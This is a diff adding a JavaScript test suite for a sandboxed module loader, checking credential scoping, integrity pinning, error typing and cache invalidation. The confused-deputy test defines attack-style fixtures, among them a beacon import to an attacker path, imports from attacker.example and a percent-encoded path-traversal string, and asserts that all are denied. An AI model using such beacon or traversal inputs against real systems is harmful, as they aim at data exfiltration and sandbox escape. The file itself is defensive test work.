@@ -1,0 +1,164 @@
+// Modules through the worker tier and the host-side broker, against a fake realm server on
+// the test origin. The server's request log proves what was (and was not) requested.
+import { test, before, after } from 'node:test';
+import assert from 'node:assert/strict';
+import { createHash } from 'node:crypto';
+import { start } from './harness.mjs';
+
+const files = new Map();
+const log = []; // { path, auth }
+let h;
+let page;
+
+const PKG_SRC = "export const version = '1.0.0';";
+const sri = (s) => `sha384-${createHash('sha384').update(s).digest('base64')}`;
+
+before(async () => {
+  h = await start({
+    '/realm/': (req, res, url) => {
+      log.push({ path: url.pathname + url.search, auth: req.headers.authorization ?? null, method: req.method });
+      const body = files.get(url.pathname);
+      if (body === undefined) {
+        res.writeHead(404).end('not found');
+        return;
+      }
+      res.writeHead(200, { 'content-type': 'text/javascript', 'cache-control': 'no-store' }).end(body);
+    },
+  });
+  files.set('/realm/alice/card.js', "import { twice } from './lib/math.js';\nimport { version } from '/realm/pkg/v1.js';\nimport { theme } from '/realm/shared/theme.js';\nexport const answer = twice(21);\nexport const meta = JSON.stringify(import.meta);\nglobalThis.card = { answer, version, theme, meta };");
+  files.set('/realm/alice/lib/math.js', 'export function twice(x) { return x * 2 }');
+  files.set('/realm/shared/theme.js', "export const theme = 'dark';");
+  files.set('/realm/pkg/v1.js', PKG_SRC);
+  files.set('/realm/alice/beacon.js', "import '/realm/attacker/collect.js?beacon=1';");
+  files.set('/realm/alice/tricks.js', [
+    "export const results = [];",
+    "for (const s of ['https://attacker.example/x.js', '//attacker.example/x.js', '/realm/alice-evil/x.js', '/realm/alice/..%2Fattacker/x.js', '/realm/attacker/x.js', 'data:text/javascript,1', 'lodash']) {",
+    "  try { await import(s); results.push(s + ': loaded'); } catch (e) { results.push(e.name); }",
+    "}",
+    "globalThis.tricks = results;",
+  ].join('\n'));
+  files.set('/realm/alice/tampered.js', "import '/realm/pkg/v2.js';");
+  files.set('/realm/pkg/v2.js', 'export const version = "evil";');
+  files.set('/realm/alice/broken.js', 'export const x = ;');
+  files.set('/realm/alice/editable.js', "import { n } from './dep.js'; globalThis.seen = n;");
+  files.set('/realm/alice/dep.js', 'export const n = 1;');
+  files.set('/realm/alice/tokens.js', "import { CardDef, field, Button } from '@cardstack/card-api';\nclass Counter extends CardDef { static count = field('number'); }\nglobalThis.tokens = { sub: new Counter() instanceof CardDef, names: Object.getOwnPropertyNames(CardDef).sort(), desc: Counter.count, frozen: Object.isFrozen(Button) };");
+  page = await h.page('/tests/');
+  await page.waitForFunction(() => globalThis.ready === true);
+});
+after(async () => h && h.close());
+
+const run = (fn, arg) => page.evaluate(`(${fn})(globalThis.pkg, ${JSON.stringify(arg)})`);
+
+function setup(origin, pkgIntegrity, v2Integrity) {
+  return {
+    realms: [`${origin}/realm/alice/`],
+    readable: [`${origin}/realm/shared/`],
+    packages: { [`${origin.replace('http:', 'http:')}/realm/pkg/v1.js`]: pkgIntegrity },
+    trusted: { '@cardstack/card-api': { CardDef: 'class', field: 'function', Button: 'value' } },
+    v2: v2Integrity,
+  };
+}
+
+test('a module graph loads through the broker: own realm, readable realm, pinned package; import.meta is { url }', async () => {
+  log.length = 0;
+  const r = await run(async (pkg, { origin, pkgIntegrity }) => {
+    const tokens = [];
+    const pool = new pkg.CompartmentPool({ credentials: (realm, url) => { tokens.push([realm, url]); return { authorization: `Bearer for ${realm}` }; } });
+    const c = await pkg.Compartment.create({
+      principal: `${origin}/realm/alice/`,
+      modules: { readable: [`${origin}/realm/shared/`], packages: { [`${origin}/realm/pkg/v1.js`]: pkgIntegrity } },
+      pool,
+    });
+    const exports = await c.import(`${origin}/realm/alice/card.js`);
+    const card = await c.eval('card');
+    pool.close();
+    return { exports, card, tokens };
+  }, { origin: h.origin, pkgIntegrity: sri(PKG_SRC) }).catch((e) => ({ error: String(e) }));
+  assert.deepEqual(r.exports, ['answer', 'meta'], JSON.stringify(r));
+  assert.equal(r.card.answer, 42);
+  assert.equal(r.card.theme, 'dark');
+  assert.deepEqual(JSON.parse(r.card.meta), { url: `${h.origin}/realm/alice/card.js` });
+  // Credentials: asked for the own and readable realms only, never for the package.
+  const byPath = Object.fromEntries(log.map((l) => [l.path, l.auth]));
+  assert.equal(byPath['/realm/alice/card.js'], `Bearer for ${h.origin}/realm/alice/`);
+  assert.equal(byPath['/realm/shared/theme.js'], `Bearer for ${h.origin}/realm/shared/`);
+  assert.equal(byPath['/realm/pkg/v1.js'], null, 'no token goes to a package');
+  assert.ok(log.every((l) => l.method === 'GET'));
+});
+
+test('confused-deputy tricks are denied before any request; the guest can catch the denial', async () => {
+  log.length = 0;
+  const r = await run(async (pkg, { origin }) => {
+    const pool = new pkg.CompartmentPool();
+    const c = await pkg.Compartment.create({ principal: `${origin}/realm/alice/`, pool });
+    let beacon;
+    try { await c.import(`${origin}/realm/alice/beacon.js`); beacon = 'loaded'; } catch (e) { beacon = { code: e.code, path: e.path }; }
+    await c.import(`${origin}/realm/alice/tricks.js`);
+    const tricks = await c.eval('tricks');
+    let direct;
+    try { await c.import(`${origin}/realm/attacker/x.js`); direct = 'loaded'; } catch (e) { direct = e.code; }
+    const script = await c.eval(`import('${origin}/realm/attacker/y.js').then(() => 'loaded', (e) => e.name)`);
+    pool.close();
+    return { beacon, tricks, direct, script };
+  }, { origin: h.origin });
+  assert.equal(r.beacon.code, 'SANDBOX_POLICY_DENIED');
+  assert.equal(r.beacon.path, '/realm/attacker/collect.js?beacon=1');
+  assert.deepEqual(r.tricks, Array(7).fill('TypeError'));
+  assert.equal(r.direct, 'SANDBOX_POLICY_DENIED');
+  assert.equal(r.script, 'TypeError');
+  const attacker = log.filter((l) => !l.path.startsWith('/realm/alice/'));
+  assert.deepEqual(attacker, [], 'the request log shows no request outside the realm');
+  assert.deepEqual(h.requests.filter((u) => !u.startsWith(h.origin)), [], 'and nothing left the origin');
+});
+
+test('an integrity mismatch and a syntax error are typed, with the module URL and line', async () => {
+  const r = await run(async (pkg, { origin, v2 }) => {
+    const pool = new pkg.CompartmentPool();
+    const c = await pkg.Compartment.create({ principal: `${origin}/realm/alice/`, modules: { packages: { [`${origin}/realm/pkg/v2.js`]: v2 } }, pool });
+    const grab = (p) => p.then(() => 'loaded', (e) => ({ code: e.code, filename: e.filename, line: e.line }));
+    const out = { tampered: await grab(c.import(`${origin}/realm/alice/tampered.js`)), broken: await grab(c.import(`${origin}/realm/alice/broken.js`)) };
+    pool.close();
+    return out;
+  }, { origin: h.origin, v2: sri('export const version = "1.0.0";') });
+  assert.equal(r.tampered.code, 'SANDBOX_POLICY_DENIED');
+  assert.deepEqual(r.broken, { code: 'SANDBOX_SYNTAX', filename: `${h.origin}/realm/alice/broken.js`, line: 1 });
+});
+
+test('trusted imports are inert tokens', async () => {
+  const r = await run(async (pkg, { origin }) => {
+    const pool = new pkg.CompartmentPool();
+    const c = await pkg.Compartment.create({ principal: `${origin}/realm/alice/`, modules: { trusted: { '@cardstack/card-api': { CardDef: 'class', field: 'function', Button: 'value' } } }, pool });
+    await c.import(`${origin}/realm/alice/tokens.js`);
+    const tokens = await c.eval('tokens');
+    pool.close();
+    return tokens;
+  }, { origin: h.origin });
+  assert.deepEqual(r, { sub: true, names: ['length', 'name', 'prototype'], desc: { token: 'field', args: ['number'] }, frozen: true });
+});
+
+test('an edited module is seen by every compartment after invalidation, dependents included', async () => {
+  files.set('/realm/alice/dep.js', 'export const n = 1;');
+  const first = await run(async (pkg, { origin }) => {
+    globalThis.modPool = new pkg.CompartmentPool();
+    globalThis.modA = await pkg.Compartment.create({ principal: `${origin}/realm/alice/`, pool: modPool });
+    globalThis.modB = await pkg.Compartment.create({ principal: 'https://other.example/', modules: { readable: [`${origin}/realm/alice/`] }, pool: modPool });
+    await modA.import(`${origin}/realm/alice/editable.js`);
+    await modB.import(`${origin}/realm/alice/editable.js`);
+    return [await modA.eval('seen'), await modB.eval('seen')];
+  }, { origin: h.origin });
+  assert.deepEqual(first, [1, 1]);
+  files.set('/realm/alice/dep.js', 'export const n = 2;');
+  log.length = 0;
+  const second = await run(async (pkg, { origin }) => {
+    const dropped = await modPool.realmChanged({ type: 'update', url: `${origin}/realm/alice/dep.js` });
+    await modA.import(`${origin}/realm/alice/editable.js`);
+    await modB.import(`${origin}/realm/alice/editable.js`);
+    const seen = [await modA.eval('seen'), await modB.eval('seen')];
+    modPool.close();
+    return { dropped, seen };
+  }, { origin: h.origin });
+  assert.deepEqual(second.dropped, [`${h.origin}/realm/alice/dep.js`, `${h.origin}/realm/alice/editable.js`]);
+  assert.deepEqual(second.seen, [2, 2]);
+  assert.ok(log.some((l) => l.path === '/realm/alice/dep.js'), 'fresh source was fetched');
+});
